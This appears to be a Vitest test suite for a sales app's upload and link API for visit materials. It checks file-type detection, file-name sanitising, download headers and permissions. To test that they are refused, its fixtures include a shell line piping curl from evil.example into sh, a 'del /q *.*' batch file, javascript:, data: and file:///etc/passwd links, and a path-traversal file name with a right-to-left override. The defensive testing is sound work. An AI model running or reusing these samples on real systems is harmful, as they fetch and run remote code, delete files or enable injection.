import { crc32 } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attachmentDisposition, safeFileName } from '../../src/core/file-name.ts';
import { createTestApp, type TestApp } from '../setup/test-app.ts';
import { type WorkspaceFixture, workspaceWithAllRoles } from '../setup/workspace-fixture.ts';

let t: TestApp;
let ws: WorkspaceFixture;
let other: WorkspaceFixture;
let visitId: string;

const kam = () => ws.as.key_account_manager;
const materialsUrl = () => `/api/v1/visits/${visitId}/materials`;

beforeAll(async () => {
  t = await createTestApp();
  ws = await workspaceWithAllRoles(t.app, t.database);
  other = await workspaceWithAllRoles(t.app, t.database, 'other');
  const account = (await kam().post('/api/v1/accounts', { name: 'Brenner Maschinenbau AG' })).body;
  visitId = (
    await kam().post('/api/v1/visits', {
      accountId: account.id,
      title: 'Jahresgespräch',
      startsAt: '2027-02-10T09:00:00+01:00',
      endsAt: '2027-02-10T11:00:00+01:00',
    })
  ).body.id;
});
afterAll(() => t.close());

/** A ZIP archive with stored (uncompressed) entries, as Office and OpenDocument files are. */
function zip(entries: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const nameBytes = Buffer.from(name);
    const data = Buffer.from(text);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const files = {
  pdf: Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n', 'latin1'),
  png: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
  jpeg: Buffer.from('ffd8ffe000104a464946000101', 'hex'),
  gif: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00', 'latin1'),
  webp: Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x24, 0, 0, 0]), Buffer.from('WEBPVP8 ')]),
  docx: zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' }),
  pptx: zip({ '[Content_Types].xml': '<Types/>', 'ppt/presentation.xml': '<p:presentation/>' }),
  odt: zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office:document/>' }),
  csv: Buffer.from('Produkt;Preis\nBaureihe X200;12.500,00 €\n'),
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]),
  exe: Buffer.concat([
    Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
    Buffer.alloc(120),
    Buffer.from('PE\0\0'),
  ]),
  machO: Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(24)]),
  script: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
  docm: zip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': '<w:document/>',
    'word/vbaProject.bin': 'Attribute VB_Name',
  }),
  plainZip: zip({ 'setup.exe': 'MZ' }),
};

function upload(
  body: Buffer,
  fileName: string | null,
  contentType = 'application/octet-stream',
  title?: string,
) {
  const query = new URLSearchParams();
  if (fileName !== null) query.set('fileName', fileName);
  if (title) query.set('title', title);
  return kam().request('POST', `${materialsUrl()}?${query}`, body, contentType);
}

async function materialCount(): Promise<number> {
  return (await kam().get(`/api/v1/visits/${visitId}`)).body.materials.length;
}

describe('links', () => {
  it('are kept with their title', async () => {
    const created = await kam().post(materialsUrl(), {
      title: 'Produktseite',
      url: 'https://brenner.example/x200',
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body).toMatchObject({
      kind: 'link',
      title: 'Produktseite',
      url: 'https://brenner.example/x200',
      fileName: null,
      sizeBytes: null,
    });
    const visit = (await kam().get(`/api/v1/visits/${visitId}`)).body;
    expect(visit.materials).toContainEqual(expect.objectContaining({ id: created.body.id, kind: 'link' }));
    // A link has no file to download.
    expect((await kam().get(`${materialsUrl()}/${created.body.id}`)).status).toBe(404);
  });

  it.each([
    'javascript:alert(1)',
    'ftp://files.example/slides.pdf',
    'file:///etc/passwd',
    'data:text/html,<script>alert(1)</script>',
    'keine Adresse',
  ])('refuses %s', async (url) => {
    const before = await materialCount();
    const response = await kam().post(materialsUrl(), { title: 'Link', url });
    expect(response.status).toBe(400);
    expect(response.body.errors[0]).toMatchObject({ path: 'url' });
    expect(await materialCount()).toBe(before);
  });

  it('refuses a link without title', async () => {
    const response = await kam().post(materialsUrl(), { url: 'https://brenner.example' });
    expect(response.body.errors[0]).toMatchObject({ path: 'title' });
  });
});

describe('files', () => {
  it.each([
    ['Angebot.pdf', files.pdf, 'application/pdf'],
    ['Foto.PNG', files.png, 'image/png'],
    ['Halle.jpg', files.jpeg, 'image/jpeg'],
    ['Logo.gif', files.gif, 'image/gif'],
    ['Banner.webp', files.webp, 'image/webp'],
    ['Protokoll.docx', files.docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['Folien.pptx', files.pptx, 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
    ['Notizen.odt', files.odt, 'application/vnd.oasis.opendocument.text'],
    ['Preise.csv', files.csv, 'text/csv'],
    ['Preise.txt', files.csv, 'text/plain'],
  ])('accepts %s as %s by its content', async (fileName, content, mediaType) => {
    const created = await upload(content, fileName);
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body).toMatchObject({
      kind: 'file',
      fileName,
      title: fileName,
      mediaType,
      sizeBytes: content.length,
    });
  });

  it('accepts a real Excel workbook', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Preise').addRow(['Baureihe X200', 12500]);
    const content = Buffer.from(await workbook.xlsx.writeBuffer());
    const created = await upload(content, 'Preisliste.xlsx', 'application/vnd.ms-excel');
    expect(created.body.mediaType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  });

  it('gives the file back as an attachment with its safe name, unchanged and not to be sniffed', async () => {
    const created = await upload(files.pdf, 'Präsentation Q1 (final).pdf', 'application/pdf', 'Präsentation');
    expect(created.body.title).toBe('Präsentation');
    const download = await t.app.inject({
      method: 'GET',
      url: `${materialsUrl()}/${created.body.id}`,
      headers: { cookie: kam().cookie ?? '' },
    });
    expect(download.statusCode).toBe(200);
    expect(download.rawPayload.equals(files.pdf)).toBe(true);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(download.headers['content-disposition']).toBe(
      `attachment; filename="Prasentation Q1 (final).pdf"; filename*=UTF-8''Pr%C3%A4sentation%20Q1%20%28final%29.pdf`,
    );
    const text = await upload(files.csv, 'Preise.csv', 'text/csv');
    const csv = await kam().get(`${materialsUrl()}/${text.body.id}`);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.body).toBe(files.csv.toString());
  });

  it('stores a harmless name for a hostile one', async () => {
    const created = await upload(files.pdf, '../../etc/\u202Efdp.exe.pdf');
    expect(created.body.fileName).toBe('-..-etc-fdp.exe.pdf');
  });

  it.each([
    ['a Linux program renamed .pdf', files.elf, 'Angebot.pdf', 'Linux program'],
    ['a Windows program renamed .pdf', files.exe, 'Angebot.pdf', 'Windows program'],
    ['a macOS program renamed .pdf', files.machO, 'Angebot.pdf', 'macOS program'],
    ['a script renamed .pdf', files.script, 'Angebot.pdf', 'script'],
    ['a text renamed .pdf', files.csv, 'Angebot.pdf', 'text file'],
    ['a PDF renamed .docx', files.pdf, 'Angebot.docx', 'PDF'],
    ['a Word file with macros', files.docm, 'Angebot.docx', 'macros'],
    ['a plain ZIP archive', files.plainZip, 'Angebot.docx', 'ZIP archive'],
    ['a text named .bat', Buffer.from('del /q *.*\r\n'), 'aufräumen.bat', 'text file'],
    ['an empty file', Buffer.alloc(0), 'leer.pdf', 'empty'],
  ])('refuses %s by its content and stores nothing', async (_, content, fileName, words) => {
    const before = await materialCount();
    const response = await upload(content, fileName, 'application/pdf');
    expect(response.status, JSON.stringify(response.body)).toBe(415);
    expect(response.body.code).toBe('unsupported_media_type');
    expect(response.body.errors[0]).toMatchObject({ path: 'file', code: 'file_type_not_allowed' });
    expect(response.body.detail).toContain(words);
    expect(await materialCount()).toBe(before);
  });

  it('refuses a file over the size limit and stores nothing', async () => {
    const before = await materialCount();
    const response = await upload(Buffer.alloc(20 * 1024 * 1024 + 1, 0x41), 'gross.txt', 'text/plain');
    expect(response.status).toBe(413);
    expect(response.body.code).toBe('payload_too_large');
    expect(response.body.errors[0]).toMatchObject({ path: 'file', code: 'file_too_large' });
    expect(await materialCount()).toBe(before);
  });

  it("tells the web app the operator's limit, so a file can be refused before it is sent", async () => {
    const configured = await createTestApp({ KONTOR_MATERIAL_MAX_MB: '3', KONTOR_IMPORT_MAX_MB: '7' });
    try {
      const team = await workspaceWithAllRoles(configured.app, configured.database);
      const me = await team.as.key_account_manager.get('/api/v1/me');
      expect(me.body.limits).toEqual({ materialMaxBytes: 3 * 1024 * 1024, importMaxBytes: 7 * 1024 * 1024 });
    } finally {
      await configured.close();
    }
  });

  it('needs a file name', async () => {
    const response = await upload(files.pdf, null);
    expect(response.status).toBe(400);
    expect(response.body.errors[0]).toMatchObject({ path: 'fileName' });
  });

  it('are deleted, with an audit entry', async () => {
    const created = await upload(files.pdf, 'Weg.pdf');
    const url = `${materialsUrl()}/${created.body.id}`;
    expect((await kam().delete(url)).status).toBe(204);
    expect((await kam().get(url)).status).toBe(404);
    expect((await kam().delete(url)).status).toBe(404);
    const audit = await ws.as.admin.get(
      `/api/v1/audit?entityType=visit_material&entityId=${created.body.id}`,
    );
    expect(audit.body.items.map((e: { action: string }) => e.action)).toEqual(['delete', 'create']);
  });
});

describe('permissions and workspaces', () => {
  it('lets readers download, not add or delete; internal colleagues do neither', async () => {
    const created = await upload(files.pdf, 'Lesen.pdf');
    const url = `${materialsUrl()}/${created.body.id}`;
    expect((await ws.as.viewer.get(url)).status).toBe(200);
    expect((await ws.as.viewer.delete(url)).status).toBe(403);
    expect((await ws.as.viewer.post(materialsUrl(), { title: 'x', url: 'https://x.example' })).status).toBe(
      403,
    );
    expect((await ws.as.internal.get(url)).status).toBe(403);
  });

  it('answers 404 for another workspace', async () => {
    const created = await upload(files.pdf, 'Geheim.pdf');
    const url = `${materialsUrl()}/${created.body.id}`;
    const stranger = other.as.admin;
    expect((await stranger.get(url)).status).toBe(404);
    expect((await stranger.delete(url)).status).toBe(404);
    expect((await stranger.post(materialsUrl(), { title: 'x', url: 'https://x.example' })).status).toBe(404);
    expect((await kam().get(url)).status).toBe(200);
  });
});

describe('file names', () => {
  it('drops folders, controls and characters the systems reserve, and keeps the ending of a long one', () => {
    expect(safeFileName('C:\\Users\\ada\\Angebot.pdf')).toBe('C-Users-ada-Angebot.pdf');
    expect(safeFileName('a<b>c:"d"|e?*.txt')).toBe('abcde.txt');
    expect(safeFileName('  .versteckt.  ')).toBe('versteckt');
    expect(safeFileName('\u0000\u0007')).toBe('file');
    const long = safeFileName(`${'ä'.repeat(300)}.pptx`);
    expect([...long]).toHaveLength(200);
    expect(long.endsWith('.pptx')).toBe(true);
  });

  it('offers UTF-8 names by RFC 6266 with an ASCII stand-in', () => {
    expect(attachmentDisposition('Übersicht "2027" 100%.pdf')).toBe(
      `attachment; filename="Ubersicht 2027 100_.pdf"; filename*=UTF-8''%C3%9Cbersicht%202027%20100%25.pdf`,
    );
    expect(attachmentDisposition('Straße.txt')).toBe(
      `attachment; filename="Stra_e.txt"; filename*=UTF-8''Stra%C3%9Fe.txt`,
    );
  });
});
